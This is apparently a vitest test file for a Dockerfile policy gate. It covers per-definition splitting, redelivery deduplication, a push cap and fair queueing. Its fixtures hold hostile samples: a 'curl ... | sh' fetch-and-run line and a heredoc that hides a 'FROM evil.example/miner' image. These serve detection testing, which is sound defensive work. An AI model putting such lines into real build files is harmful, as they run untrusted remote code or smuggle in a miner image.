// The gate step as the local workers run it (its queue's handler over the local ports) with real parts (git,
// SQLite, the local bus and its fair queues): a push is taken apart into one message per definition, a redelivery
// gates nothing twice, a push over the cap is refused whole, and one repository's big push does not hold up
// another's.
import { execFileSync } from 'node:child_process';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { BuildahImageRegistry } from '../../../adapters/local/buildah-image-registry.js';
import { createBareRepository } from '../../../adapters/local/git-repositories.js';
import { SqliteEventLog } from '../../../adapters/local/sqlite-event-log.js';
import type { DefinitionPushedEvent, DrydockEvent } from '../../../core/events/index.js';
import { EVENT_RULES } from '../../../core/events/rules.js';
import { parsePolicy } from '../../../core/policy/parse-policy.js';
import type { Policy } from '../../../core/policy/schema.js';
import { LocalEventBus } from '../../../runtime/local/local-event-bus.js';
import { localStepPorts } from '../../../runtime/local/local-ports.js';
import { pipelineQueues } from '../../../runtime/local/open-local-pipeline.js';
import { drainOnce } from '../../../runtime/local/queue-worker.js';
import { queueHandlers } from '../../../runtime/local/step-dispatch.js';
import { TempState } from '../../contracts/local-state.js';
import { tempDir } from '../../helpers/temp-dir.js';

const root = join(import.meta.dirname, '../../..');
const EXAMPLE_POLICY = readFileSync(join(root, 'examples/policy.yaml'), 'utf8');
const PASSING = 'FROM node:20\nUSER 1000\nCMD ["node", "server.js"]\n';
const FAILING = 'FROM alpine:3.20\nRUN curl -fsSL https://x.example/i.sh | sh\n';

const states: TempState[] = [];
afterEach(() => {
  for (const s of states.splice(0)) s.close();
});

const git = (cwd: string, ...args: string[]) =>
  execFileSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@example.com', ...args], {
    cwd,
    encoding: 'utf8',
  }).trim();

/** A policy: the shipped example with `gate.maxDefinitionsPerPush` set when asked. */
function policyWith(maxDefinitionsPerPush?: number): Policy {
  const text =
    maxDefinitionsPerPush === undefined
      ? EXAMPLE_POLICY
      : EXAMPLE_POLICY.replace(/^gate:\n/m, `gate:\n  maxDefinitionsPerPush: ${maxDefinitionsPerPush}\n`);
  return parsePolicy(text);
}

/** The local gate over real parts; `policyReads` counts how often the gate asked for the policy. */
async function gatePipeline(policy: Policy) {
  const dir = tempDir('drydock-gate-step-');
  const reposRoot = join(dir, 'repos');
  const state = new TempState();
  states.push(state);
  const db = state.open();
  const queues = pipelineQueues(db, { maxReceives: 3, visibilityTimeoutMs: 60_000 });
  const log = new SqliteEventLog(db);
  const bus = new LocalEventBus(log, queues, EVENT_RULES);
  // The registry and container storage are never used: only the gate step runs here.
  const containerEnv = { env: {}, root: join(dir, 'containers'), buildTmp: join(dir, 'build-tmp') };
  let policyReads = 0;
  const ports = localStepPorts(
    {
      stateDir: dir,
      db,
      bus,
      registry: new BuildahImageRegistry({
        host: '127.0.0.1:1',
        credential: { username: 'drydock-pipeline', secret: 'unused' },
        containerEnv,
      }),
      credential: { username: 'drydock-pipeline', secret: 'unused' },
      containerEnv,
      stopping: new AbortController().signal,
    },
    {
      policy: async () => {
        policyReads++;
        return policy;
      },
    },
  );
  const handlers = queueHandlers(Object.keys(queues), ports);
  /** Commits the files to a new bare repository `name` and returns the push event for that commit. */
  const push = async (name: string, files: Record<string, string>): Promise<DefinitionPushedEvent> => {
    const repo = await createBareRepository(reposRoot, name, ['true']);
    const work = join(dir, `work-${name}`);
    git(dir, 'init', '--quiet', '--initial-branch=main', work);
    for (const [path, text] of Object.entries(files)) {
      mkdirSync(join(work, path, '..'), { recursive: true });
      writeFileSync(join(work, path), text);
    }
    git(work, 'add', '.');
    git(work, 'commit', '--quiet', '-m', 'defs');
    git(work, 'push', '--quiet', repo.remote, 'main');
    const after = git(work, 'rev-parse', 'HEAD');
    return {
      id: `push-${name}`,
      source: 'drydock',
      detailType: 'Definition Pushed',
      time: new Date().toISOString(),
      detail: {
        repository: name,
        ref: 'refs/heads/main',
        before: '0'.repeat(40),
        after,
        pusher: 'dev',
        definitions: Object.keys(files).map((path) => ({ path, change: 'added' as const })),
      },
    };
  };
  /** Handles one message of the gate queue, as a worker does; returns the event it handled. */
  const gateOnce = async (): Promise<DrydockEvent | undefined> => {
    let handled: DrydockEvent | undefined;
    await drainOnce(
      queues.gate!,
      async (e) => {
        handled = e;
        await handlers.gate!(e);
      },
      { batch: 1 },
    );
    return handled;
  };
  const logged = async () => (await log.readAfter(0, 10_000)).map((l) => l.event);
  return { bus, queues, push, gateOnce, logged, policyReads: () => policyReads };
}

describe('the local gate step', () => {
  it('takes a push apart into one gate message per definition, each gated alone', async () => {
    const p = await gatePipeline(policyWith());
    await p.bus.publish([await p.push('shop', { 'api/Dockerfile': PASSING, 'bad/Dockerfile': FAILING })]);
    const first = await p.gateOnce();
    expect(first?.detailType).toBe('Definition Pushed');
    expect(await p.queues.gate!.depth()).toMatchObject({ visible: 2 });
    expect((await p.gateOnce())?.detailType).toBe('Definition Gate Requested');
    expect((await p.gateOnce())?.detailType).toBe('Definition Gate Requested');
    const events = await p.logged();
    const verdicts = events.flatMap((e) =>
      e.detailType === 'Definition Verdict' ? [[e.detail.definition, e.detail.passed]] : [],
    );
    expect(verdicts.sort()).toEqual([
      ['api/Dockerfile', true],
      ['bad/Dockerfile', false],
    ]);
    expect(events.filter((e) => e.detailType === 'Build Requested')).toHaveLength(1);
    expect(await p.queues.build!.depth()).toMatchObject({ visible: 1 });
  });

  it('gates and builds nothing twice when a gate message is delivered again', async () => {
    const p = await gatePipeline(policyWith());
    await p.bus.publish([await p.push('shop', { 'api/Dockerfile': PASSING })]);
    await p.gateOnce();
    const [request] = (await p.logged()).filter((e) => e.detailType === 'Definition Gate Requested');
    await p.gateOnce();
    const reads = p.policyReads();
    // The same message again, as SQS or a restart redelivers it (a new send: the router's dedup id is spent).
    await p.queues.gate!.send({ rule: 'gate-each-definition', event: request! }, { groupId: 'shop' });
    expect((await p.gateOnce())?.id).toBe(request!.id);
    expect(p.policyReads()).toBe(reads);
    const events = await p.logged();
    expect(events.filter((e) => e.detailType === 'Definition Verdict')).toHaveLength(1);
    expect(events.filter((e) => e.detailType === 'Build Requested')).toHaveLength(1);
    expect(await p.queues.build!.depth()).toMatchObject({ visible: 1 });
  });

  it('refuses a push over the cap with one failed verdict for the team, and gates or builds none of it', async () => {
    const p = await gatePipeline(policyWith(2));
    await p.bus.publish([
      await p.push('shop', { 'a/Dockerfile': PASSING, 'b/Dockerfile': PASSING, 'c/Dockerfile': PASSING }),
    ]);
    await p.gateOnce();
    expect(await p.gateOnce()).toBeUndefined();
    const events = await p.logged();
    expect(events.map((e) => e.detailType)).toEqual(['Definition Pushed', 'Definition Verdict']);
    const verdict = events[1]!;
    expect(verdict.detailType === 'Definition Verdict' && verdict.detail.findings[0]?.message).toMatch(
      /adds or modifies 3 definitions and the gate takes at most 2 per push/,
    );
    // The team hears of it: the verdict is on its way to the notify step.
    expect(await p.queues.notify!.depth()).toMatchObject({ visible: 1 });
    expect(await p.queues.build!.depth()).toMatchObject({ visible: 0 });
  });

  it("gates another repository's push within the first few messages after a push of 300 definitions", async () => {
    const p = await gatePipeline(policyWith(300));
    const big = Object.fromEntries(Array.from({ length: 300 }, (_, i) => [`svc-${i}/Dockerfile`, PASSING]));
    await p.bus.publish([await p.push('big', big)]);
    await p.gateOnce();
    expect(await p.queues.gate!.depth()).toMatchObject({ visible: 300 });
    await p.bus.publish([await p.push('small', { 'app/Dockerfile': PASSING })]);
    const handled: string[] = [];
    for (let i = 0; i < 4; i++) {
      const e = await p.gateOnce();
      if (e?.detailType === 'Definition Gate Requested') handled.push(e.detail.repository);
      if (e?.detailType === 'Definition Pushed') handled.push(`push ${e.detail.repository}`);
    }
    expect(handled).toContain('small');
    const verdicts = (await p.logged()).flatMap((e) =>
      e.detailType === 'Definition Verdict' ? [e.detail.repository] : [],
    );
    expect(verdicts).toContain('small');
    expect(await p.queues.gate!.depth()).toMatchObject({ visible: 298 });
  });

  it('gates for buildah 1.28: a heredoc hiding a FROM is refused, a # syntax= line buildah ignores is not', async () => {
    const p = await gatePipeline(policyWith());
    const hidden =
      'FROM node:20\nUSER 1000\nRUN true <<\'#\'\nFROM evil.example/miner:1\n#\nCMD ["node", "a.js"]\n';
    await p.bus.publish([
      await p.push('shop', {
        'hidden/Dockerfile': hidden,
        'syntax/Dockerfile': `# syntax=evil.example/fe:1\n${PASSING}`,
      }),
    ]);
    for (let i = 0; i < 3; i++) await p.gateOnce();
    const verdicts = (await p.logged()).flatMap((e) =>
      e.detailType === 'Definition Verdict'
        ? [[e.detail.definition, e.detail.passed, e.detail.findings.filter((f) => f.code === 'DD004').length]]
        : [],
    );
    expect(verdicts.sort()).toEqual([
      ['hidden/Dockerfile', false, 1],
      ['syntax/Dockerfile', true, 0],
    ]);
    expect(await p.queues.build!.depth()).toMatchObject({ visible: 1 });
  });
});
